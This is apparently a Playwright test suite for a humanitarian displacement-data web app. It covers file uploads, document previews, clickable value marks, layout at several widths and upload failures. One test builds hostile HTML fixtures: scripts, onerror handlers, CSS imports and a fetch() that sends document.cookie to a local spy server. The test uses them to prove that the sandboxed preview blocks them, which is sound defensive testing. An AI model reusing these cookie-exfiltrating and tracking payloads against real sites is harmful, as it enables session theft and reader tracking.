/** The file of a document: uploaded or grabbed in its form, and read beside that form and beside the form of a fact, by mouse and by keyboard. */
import { randomUUID } from 'node:crypto';
import { once } from 'node:events';
import { createServer } from 'node:net';
import { expect, test, type Locator, type Page } from '@playwright/test';
import { strToU8, zipSync } from 'fflate';
import { writeXlsx } from 'hucre';
import { enter, expectAccessible, follow, post } from './support.ts';

const words = `<!doctype html><title>Snapshot</title><h1>2,310 people displaced</h1><p>On 4 March floods reached Quibdó.</p><script>document.body.textContent = 'acted'</script>`;

async function open(page: Page, id: number): Promise<void> {
  await page.goto(`/documents/${id}`);
  // The first load of a screen may be slow.
  await expect(page.getByRole('heading', { name: /^Edit D-/ })).toBeVisible({ timeout: 45_000 });
}

/** The parts of the page drawn over each other, of those that are drawn. */
async function overlaps(parts: Readonly<Record<string, Locator>>): Promise<string[]> {
  const boxes = await Promise.all(
    Object.entries(parts).map(async ([name, part]) => ({ name, ...(await part.boundingBox())! })),
  );
  return boxes.flatMap((one, at) =>
    boxes
      .slice(at + 1)
      .filter(
        (other) =>
          one.x + one.width > other.x + 1 &&
          other.x + other.width > one.x + 1 &&
          one.y + one.height > other.y + 1 &&
          other.y + other.height > one.y + 1,
      )
      .map((other) => `${one.name} and ${other.name}`),
  );
}

const previewOf = (page: Page) => page.getByRole('complementary', { name: 'Preview of the document' });

/** Creates a document for this journey. Returns its id. */
async function newDocument(page: Page, name: string, more: object = {}): Promise<number> {
  const publisher = await post(page, 'publishers', {
    name: `Office of ${name} ${randomUUID()}`,
    type: 'United Nations',
  });
  const parties = { sources: [publisher], publishers: [publisher] };
  return post(page, 'documents', { name, publication_date: '2025-04-01', type: 'PDF', ...parties, ...more });
}

test('a file is uploaded in the form of a document and read beside it and beside its fact', async ({ page }) => {
  await enter(page, 'expert');
  const id = await newDocument(page, 'Report with files', { countries: ['COL'] });

  await open(page, id);
  const field = page.getByRole('group', { name: 'File' });
  await expect(field.getByText('No file')).toBeVisible();
  await expect(previewOf(page)).toHaveCount(0);
  await field.getByLabel('Choose a file').setInputFiles({
    name: 'Página – نازحون.html',
    mimeType: 'text/html',
    buffer: Buffer.from(words),
  });
  await expect(page.getByText('Página – نازحون.html has been uploaded successfully')).toBeVisible();
  await expect(field.getByText('The file is kept with the document once the document is saved')).toBeVisible();
  const snapshot = previewOf(page).frameLocator('iframe');
  await expect(snapshot.getByRole('heading', { name: '2,310 people displaced' })).toBeVisible();
  await expect(snapshot.getByText('acted')).toHaveCount(0);
  await expectAccessible(page);

  await page.getByLabel('URL', { exact: true }).fill('http://127.0.0.1/report.pdf');
  await page.getByRole('button', { name: 'Grab File' }).click();
  await expect(page.locator('.file-failed').getByText('The file has failed to be created')).toBeInViewport();
  await expect(page.getByText('The file has failed to be created')).toHaveCount(1);
  await expect(page.getByText('127.0.0.1 does not lead to a public site and is not fetched')).toBeVisible();
  // Values typed before the upload stay, and are saved.
  await page.getByRole('button', { name: 'Update' }).click();
  await expect(page.getByText('Document has been created/updated')).toBeVisible();
  await expect(field.getByText('The file is kept with the document')).toHaveCount(0);
  const download = page.waitForEvent('download');
  await field.getByRole('link', { name: /Página/ }).click();
  expect((await download).suggestedFilename()).toBe('Página – نازحون.html');

  const fact = await post(page, 'facts', {
    name: 'Colombia: Floods - read while typing',
    iso3: 'COL',
    year: 2025,
    displacement_type: 'Disaster',
    type: 'New Displacement (Flow)',
    document_id: id,
    data: { reported_figure: 12, term: 'Displaced', start_date: { date: '2025-03-01', accuracy: 'Day' } },
  });
  await follow(page, `/facts/${fact}`);
  await expect(page.getByRole('heading', { name: /^Edit F-/ })).toBeVisible();
  await expect(page.getByText('Fact has been loaded')).toBeVisible();
  await expect(snapshot.getByRole('heading', { name: '2,310 people displaced' })).toBeVisible();
  await expectAccessible(page);

  // A click on a mark puts its value into the field that was in use, and the focus back to it.
  const figure = page.getByLabel('Reported Figure', { exact: true });
  await figure.click();
  await snapshot.getByRole('button', { name: '2,310 people' }).click();
  await expect(figure).toHaveValue('2,310');
  await expect(figure).toBeFocused();
  // The same by keyboard: Alt + M leads to the marks, the arrow keys from one to the next.
  const start = page.getByLabel('Start Date', { exact: true });
  await start.focus();
  await page.keyboard.press('Alt+m');
  await expect(snapshot.getByRole('button', { name: '2,310 people' })).toBeFocused();
  await page.keyboard.press('ArrowRight');
  await expect(snapshot.getByRole('button', { name: '4 March' })).toBeFocused();
  await page.keyboard.press('Enter');
  await expect(start).toHaveValue('2025-03-04');
  await expect(start).toBeFocused();
  // A place starts its search at once; Esc leaves the marks.
  await page.getByLabel('Search a place in Colombia').focus();
  await snapshot.getByRole('button', { name: 'Quibdó' }).click();
  await page
    .getByTitle(/^Quibdó · .*Colombia$/)
    .first()
    .click();
  await expect(page.getByRole('table', { name: 'Locations' })).toContainText('Quibdó');
  // The Name takes no date: it is copied. Without marks the page is as the server sent it.
  await page.getByRole('textbox', { name: 'Name' }).first().click();
  await snapshot.getByRole('button', { name: '4 March' }).click();
  await expect(page.getByText('2025-03-04 copied to clipboard')).toBeVisible();
  const marks = page.getByRole('switch', { name: 'Marks' });
  await marks.press('Space');
  await expect(snapshot.getByRole('heading', { name: '2,310 people displaced' })).toBeVisible();
  await expect(snapshot.getByRole('button')).toHaveCount(0);
  await marks.press('Space');

  const divider = page.getByRole('separator', { name: 'Width of the preview' });
  await divider.focus();
  await divider.press('End');
  await expect(divider).toHaveAttribute('aria-valuenow', '75');
  await divider.press('ArrowLeft');
  await page.getByRole('textbox', { name: 'Name' }).fill('Colombia: Floods - typed beside the page');
  await page.getByRole('button', { name: 'Hide preview' }).press('Enter');
  await expect(page.getByRole('button', { name: 'Show preview' })).toBeFocused();
  await expect(page.locator('iframe')).toHaveCount(0);
  await expect(page.getByRole('textbox', { name: 'Name' })).toHaveValue('Colombia: Floods - typed beside the page');
  await expectAccessible(page);
  await page.getByRole('button', { name: 'Update' }).click();
  await expect(page.getByText('Fact has been created/updated')).toBeVisible();
  await page.reload();
  await page.getByRole('button', { name: 'Show preview' }).click();
  await expect(divider).toHaveAttribute('aria-valuenow', '73');
});

test('the parts of the head of a fact with a file stand apart at every width, and its name keeps its cause and its end @proof', async ({
  page,
}) => {
  await enter(page, 'expert');
  const document_id = await newDocument(page, 'Report with a closed file', { countries: ['COL'] });
  await open(page, document_id);
  const buffer = Buffer.from(words);
  const field = page.getByRole('group', { name: 'File' });
  await field.getByLabel('Choose a file').setInputFiles({ name: 'a.html', mimeType: 'text/html', buffer });
  await expect(previewOf(page).getByRole('button', { name: 'Hide preview' })).toBeVisible();
  await page.getByRole('button', { name: 'Update' }).click();
  await expect(page.getByText('Document has been created/updated')).toBeVisible();
  const fact = await post(page, 'facts', {
    name: 'Colombia: Non-International armed conflict - كيبدو - 04/03/2025',
    iso3: 'COL',
    year: 2025,
    displacement_type: 'Conflict',
    type: 'New Displacement (Flow)',
    document_id,
    data: { reported_figure: 12, term: 'Displaced', start_date: { date: '2025-03-04', accuracy: 'Day' } },
  });
  await follow(page, `/facts/${fact}`);
  await expect(page.getByRole('heading', { name: /^Edit F-/ })).toBeVisible();
  await page.getByRole('button', { name: 'Hide preview' }).click();
  const show = page.getByRole('button', { name: 'Show preview' });
  await expect(show).toBeVisible();
  const name = page.locator('.record-name');
  const part = (number: number) => name.locator('.name-part').nth(number);
  /** The parts of the line of main values that are in sight and cut. */
  const cutParts = () =>
    page.locator('.record-values > .record-parts').evaluate((line) => {
      const box = line.getBoundingClientRect();
      const isCut = (part: Element) => {
        const { top, right } = part.getBoundingClientRect();
        return top < box.bottom - 1 && (right > box.right + 1 || part.scrollWidth > part.clientWidth);
      };
      return [...line.children].filter(isCut).map(({ textContent }) => textContent);
    });
  for (const [width, height] of [
    [320, 700],
    [390, 844],
    [683, 384],
    [1023, 768],
    [1366, 768],
  ] as const) {
    await page.setViewportSize({ width, height });
    // The number of the record is a line, and the parts of its head stand apart.
    const called = page.locator('.record-called');
    expect((await called.boundingBox())?.height, `${width} px`).toBe(24);
    const drawn = { show, called, name, tools: page.locator('.record-tools') };
    expect(await overlaps(drawn), `${width} px`).toEqual([]);
    expect(await cutParts(), `${width} px`).toEqual([]);
    if (width < 600) {
      // On a phone the head is folded, with the country behind 'More'.
      const values = page.locator('.record-values');
      const country = values.getByText('Colombia');
      const isInSight = () =>
        country.evaluate(
          (one) => one.getBoundingClientRect().bottom <= one.closest('.record-values')!.getBoundingClientRect().bottom,
        );
      expect((await values.boundingBox())?.height, `${width} px`).toBe(24);
      expect(await isInSight(), `${width} px`).toBe(false);
      await page.getByRole('button', { name: 'More', exact: true }).click();
      expect(await isInSight(), `${width} px`).toBe(true);
      await page.getByRole('button', { name: 'Less', exact: true }).click();
    }
    // The name is whole, and its date is after the place in Arabic.
    expect(await name.evaluate((whole) => whole.scrollHeight - whole.clientHeight), `${width} px`).toBeLessThan(4);
    const [place, date] = [await part(2).boundingBox(), await part(4).boundingBox()];
    if (place?.y === date?.y) expect(date?.x, `${width} px`).toBeGreaterThanOrEqual(place!.x + place!.width - 1);
  }
  await show.click();
  // Beside the file, and beside comments, the head of a scrolled form takes 64 px at most, and its figure is in sight as it opens.
  const head = page.locator('.record-head');
  const taken = () => head.evaluate((element) => element.getBoundingClientRect().bottom - 48);
  const scroll = (y: number) => page.evaluate((to) => window.scrollTo(0, to), y);
  for (const comments of [false, true]) {
    await scroll(0);
    if (comments) await page.getByRole('button', { name: 'Comments' }).click();
    await expect(page.getByRole('dialog', { name: /^Comments/ })).toHaveCount(comments ? 1 : 0);
    await expect(page.getByLabel('Reported Figure', { exact: true })).toBeInViewport({ ratio: 1 });
    await scroll(500);
    await expect.poll(taken).toBeLessThanOrEqual(64);
    expect(await cutParts(), comments ? 'beside comments' : 'beside the file').toEqual([]);
    expect(
      await overlaps({ called: page.locator('.record-called'), name, tools: page.locator('.record-tools') }),
    ).toEqual([]);
  }
  // A tab that can't be opened says why, to screen readers, too.
  const closed = page.getByRole('tab', { name: 'Facts', exact: true });
  await expect(closed).toHaveAttribute('aria-disabled', 'true');
  await expect(closed).toHaveAccessibleDescription(/master fact/i);
});

/** A page that tries to contact `spy`, which notices every connection, even without a request. */
const hostile = (spy: string) => `<head><meta http-equiv="refresh" content="0;url=${spy}/refresh">
<link rel="preconnect" href="${spy}"><link rel="stylesheet" href="${spy}/sheet"><link rel="prefetch" href="${spy}/next"><base href="${spy}/">
<style>@import "${spy}/import"; body { background: u\\72l(${spy}/background) }</style></head>
<body onload="document.title='acted'"><h1>2,310 people displaced</h1><img src="${spy}/pixel"><img src="x" onerror="document.title='acted'">
<iframe src="${spy}/frame"></iframe><video src="${spy}/film" autoplay></video><svg><image href="${spy}/svg"/></svg>
<script>document.title = 'acted'; fetch('${spy}/script?' + document.cookie + localStorage.length)</script></body>`;

test('no kind of file can run on our site, make requests or identify its reader', async ({ page, context }) => {
  await enter(page, 'expert');
  await page.goto('/change_password');
  let heard = 0;
  const server = createServer((socket) => {
    heard += 1;
    socket.on('error', () => undefined).end('HTTP/1.1 200 OK\r\ncontent-length: 2\r\nconnection: close\r\n\r\nhi');
  }).listen(0, '127.0.0.1');
  await once(server, 'listening');
  const address = server.address();
  const spy = `http://127.0.0.1:${typeof address === 'object' && address !== null ? address.port : 0}`;
  const words = hostile(spy);
  const upload = async (name: string, content: string | Buffer): Promise<string> => {
    const answer = await page.request.post('/upload/file', {
      multipart: {
        uuid: '0f6c1a52-9a3e-4b1c-8d0e-3b8a1d9c7e11',
        file: { name, mimeType: 'text/html', buffer: Buffer.from(content) },
      },
    });
    expect(answer.status(), await answer.text()).toBe(200);
    return `/upload/files/${((await answer.json()) as { filename: string }).filename}?preview`;
  };
  const other = await context.newPage();
  const shown: [string, string | Buffer][] = [
    ['page.html', `<html>${words}</html>`],
    ['page.pdf', `\ufeff<!doctype html>${words}`],
    ['page.html', Buffer.from(`\ufeff<html>${words}`, 'utf16le')],
    ['page.xhtml', `<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml">${words}</html>`],
    ['mail.eml', `From: a@example.org\nContent-Type: text/html\n\n${words}`],
    [
      'page.mhtml',
      `MIME-Version: 1.0\nContent-Type: multipart/related; boundary=b\n\n--b\nContent-Type: text/html\n\n${words}\n--b--\n`,
    ],
  ];
  for (const [name, content] of shown) {
    await other.goto(await upload(name, content));
    await expect(other.getByRole('heading', { name: '2,310 people displaced' })).toBeVisible();
    const seen = await other.evaluate(() => {
      const read = (what: () => unknown) => {
        try {
          return String(what());
        } catch {
          return 'refused';
        }
      };
      return [self.origin, read(() => document.cookie), read(() => localStorage.length), document.title];
    });
    expect([name, ...seen]).toEqual([name, 'null', 'refused', 'refused', '']);
    expect(other.url()).toContain('?preview');
  }
  const saved: [string, string][] = [
    [
      'drawing.svg',
      `<svg xmlns="http://www.w3.org/2000/svg"><script>document.title='acted'</script><image href="${spy}/a"/></svg>`,
    ],
    [
      'data.xml',
      `<?xml version="1.0"?><?xml-stylesheet href="${spy}/x.xsl"?><a><script xmlns="http://www.w3.org/1999/xhtml">1</script></a>`,
    ],
    ['code.js', `document.title = 'acted'`],
    ['notes.html', 'no page at all'],
  ];
  for (const [name, content] of saved) {
    const address = await upload(name, content);
    const download = page.waitForEvent('download');
    // The requesting page is unchanged.
    await page.evaluate((to) => void (window.location.href = to), address);
    expect((await download).suggestedFilename()).toMatch(name.split('.')[0] ?? '');
  }
  // The frame of a page with marks has our origin: even in a page that the server had not cleaned, nothing could run or be loaded.
  const uncleaned = `<h1>2,310 people displaced</h1><body onload="document.title='acted'"><img src="${spy}/pixel"><img src="x" onerror="document.title='acted'">
<style>@import "${spy}/import"; body { background: url(${spy}/background) }</style><iframe src="${spy}/frame"></iframe><a href="javascript:document.title='acted'">go</a>
<form action="${spy}/form"><button>send</button></form><script>document.title = 'acted'; parent.document.title = 'acted'; fetch('${spy}/script')</script>`;
  const file = await upload('report.html', '<html>cleaned</html>');
  const filename = /([^/]+)\?preview$/.exec(file)?.[1];
  const id = await newDocument(page, 'Hostile report', {
    filename,
    content_type: 'text/html',
    original_filename: 'report.html',
  });
  await page.route(/\?preview$/, (route) => route.fulfill({ contentType: 'text/html', body: uncleaned }));
  await follow(page, `/documents/${id}`);
  const frame = page.frameLocator('iframe');
  await expect(frame.getByRole('button', { name: '2,310 people' })).toBeVisible();
  await expect(page.locator('iframe')).toHaveAttribute(
    'sandbox',
    'allow-same-origin allow-popups allow-popups-to-escape-sandbox',
  );
  await frame.getByRole('link', { name: 'go' }).click();
  await frame.getByRole('button', { name: 'send' }).click();
  expect(await frame.locator('body').evaluate(() => [document.title, document.URL])).toEqual(['', 'about:srcdoc']);
  expect([heard, await page.title()]).toEqual([0, expect.not.stringContaining('acted')]);
  await page.unroute(/\?preview$/);
  // Our own pages cannot run an uploaded file as a script either.
  const script = await upload('code.js', `document.title = 'acted'`);
  const outcome = await page.evaluate(
    (src) =>
      new Promise((resolve) => {
        const element = document.createElement('script');
        element.src = src;
        element.addEventListener('load', () => resolve('ran'));
        element.addEventListener('error', () => resolve('refused'));
        document.head.append(element);
      }),
    script,
  );
  expect([outcome, await page.title()]).toEqual(['refused', expect.not.stringContaining('acted')]);
  expect(heard).toBe(0);
  // Proves that `spy` notices a connection.
  await other.goto(`${spy}/`);
  expect(heard).toBeGreaterThan(0);
  server.close();
});

test('a failed upload can be repeated, a running one can finish or be cancelled, and the form keeps its values @proof', async ({
  page,
}) => {
  await enter(page, 'expert');
  const id = await newDocument(page, 'Report with trouble');
  await open(page, id);
  const field = page.getByRole('group', { name: 'File' });
  await page.getByLabel('URL', { exact: true }).fill('https://www.example.org/typed');
  const refused = {
    constraint: 'storage_full',
    message:
      'The disk for files is full, so nothing was saved. What you typed is not lost; please tell an administrator.',
  };
  await page.route('**/upload/file', (route) => route.fulfill({ status: 507, json: refused }), { times: 1 });
  const csv = { name: 'نازحون 2025.csv', mimeType: 'text/csv', buffer: Buffer.from('البلد,العدد\nاليمن,12\n') };
  const drop = await page.evaluateHandle(
    ({ name, text }) => {
      const transfer = new DataTransfer();
      transfer.items.add(new File([text], name, { type: 'text/csv' }));
      return transfer;
    },
    { name: csv.name, text: csv.buffer.toString() },
  );
  await field.dispatchEvent('dragover', { dataTransfer: drop });
  await field.dispatchEvent('drop', { dataTransfer: drop });
  await expect(field.getByText(`${csv.name} has not been uploaded`)).toBeVisible();
  await expect(field.getByText(/The disk for files is full/)).toBeVisible();
  await expectAccessible(page);
  await field.getByRole('button', { name: 'Try again' }).press('Enter');
  await expect(page.getByText(`${csv.name} has been uploaded successfully`)).toBeVisible();
  await expect(previewOf(page).getByRole('cell', { name: 'اليمن' })).toBeVisible();

  // The next upload hangs until it is cancelled.
  await page.route('**/upload/file', () => undefined, { times: 1 });
  await field.getByLabel('Choose a file').setInputFiles({ ...csv, name: 'slow.csv' });
  await expect(field.getByRole('progressbar', { name: 'Progress of slow.csv' })).toBeVisible();
  await page.getByRole('button', { name: 'Update' }).click();
  await expect(page.getByText('The file is still on its way')).toBeVisible();
  await field.getByRole('button', { name: 'Cancel' }).click();
  await expect(page.getByText('slow.csv: stopped, nothing was kept')).toBeVisible();
  await expect(field.getByRole('link', { name: csv.name })).toBeVisible();
  await page.getByRole('button', { name: 'Update' }).click();
  await expect(page.getByText('Document has been created/updated')).toBeVisible();
  await page.reload();
  await expect(field.getByRole('link', { name: csv.name })).toBeVisible();
  await expect(page.getByLabel('URL', { exact: true })).toHaveValue('https://www.example.org/typed');
});

const paragraph = (text: string, properties = '') => `<w:p>${properties}<w:r><w:t>${text}</w:t></w:r></w:p>`;
const WORD = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document';
const wordFile = (body: string): Buffer =>
  Buffer.from(
    zipSync({
      '[Content_Types].xml': strToU8(
        `<Types><Override PartName="/word/document.xml" ContentType="${WORD}.main+xml"/></Types>`,
      ),
      'word/document.xml': strToU8(`<w:document><w:body>${body}</w:body></w:document>`),
    }),
  );

test('a Word file and a workbook are read beside the form, and a mark of theirs fills its field @proof', async ({
  page,
}) => {
  await enter(page, 'expert');
  const id = await newDocument(page, 'Files of an office', { countries: ['COL'] });
  await open(page, id);
  const choose = page.getByRole('group', { name: 'File' }).getByLabel('Choose a file');
  const frame = previewOf(page).frameLocator('iframe');
  const row = (...cells: string[]) => `<w:tr>${cells.map((cell) => `<w:tc>${paragraph(cell)}</w:tc>`).join('')}</w:tr>`;
  await choose.setInputFiles({
    name: 'Informe – نازحون.docx',
    mimeType: 'application/octet-stream',
    buffer: wordFile(
      paragraph('Floods in Chocó', '<w:pPr><w:pStyle w:val="Heading1"/></w:pPr>') +
        paragraph('2,310 people fled on 4 March 2025. &lt;script&gt;') +
        `<w:tbl>${row('Quibdó', '1,500')}</w:tbl>`,
    ),
  });
  await expect(frame.getByRole('heading', { name: 'Floods in Chocó' })).toBeVisible();
  await expect(frame.getByRole('cell', { name: '1,500' })).toBeVisible();
  await expectAccessible(page);
  const day = page.getByLabel('Publication Date', { exact: true });
  await day.focus();
  await frame.getByRole('button', { name: '4 March 2025' }).click();
  await expect(day).toHaveValue('2025-03-04');

  const sheets = [
    {
      name: 'Camps',
      rows: [
        ['Camp', 'People'],
        ['Quibdó', 1500],
      ],
    },
    { name: 'Secret', rows: [['unseen']], hidden: true },
  ];
  await choose.setInputFiles({
    name: 'camps.xlsx',
    mimeType: 'application/octet-stream',
    buffer: Buffer.from(await writeXlsx({ sheets })),
  });
  await expect(frame.getByRole('heading', { name: 'Camps' })).toBeVisible();
  await expect(frame.getByRole('cell', { name: '1500' })).toBeVisible();
  await expect(frame.getByText('Left out, because the workbook hides them: Secret.')).toBeVisible();
  await expectAccessible(page);
});
